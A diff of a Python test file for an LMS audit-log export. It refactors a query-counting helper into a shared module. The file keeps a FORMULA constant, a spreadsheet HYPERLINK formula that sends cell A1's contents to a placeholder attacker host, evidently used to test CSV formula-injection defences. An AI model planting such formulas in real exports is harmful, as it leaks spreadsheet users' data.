@@ -2,35 +2,21 @@
 import csv
 import io
 import re
-from contextlib import contextmanager
 from datetime import UTC, datetime
 
 import pytest
 from freezegun import freeze_time
-from sqlalchemy import event, select
+from sqlalchemy import select
 
 from lms.accounts.roles import Role
 from lms.audit import services as audit
 from lms.audit.models import AuditEvent
 from lms.extensions import db
+from tests.query_count import counting_queries
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
 
-@contextmanager
-def counting_queries(app):
-    statements: list[str] = []
-
-    def count(conn, cursor, statement, parameters, context, executemany):
-        statements.append(statement)
-
-    with app.app_context():
-        engine = db.engine
-    event.listen(engine, "before_cursor_execute", count)
-    try:
-        yield statements
-    finally:
-        event.remove(engine, "before_cursor_execute", count)
 
 
 def record_at(app, moment: str, action: str, **fields) -> None:
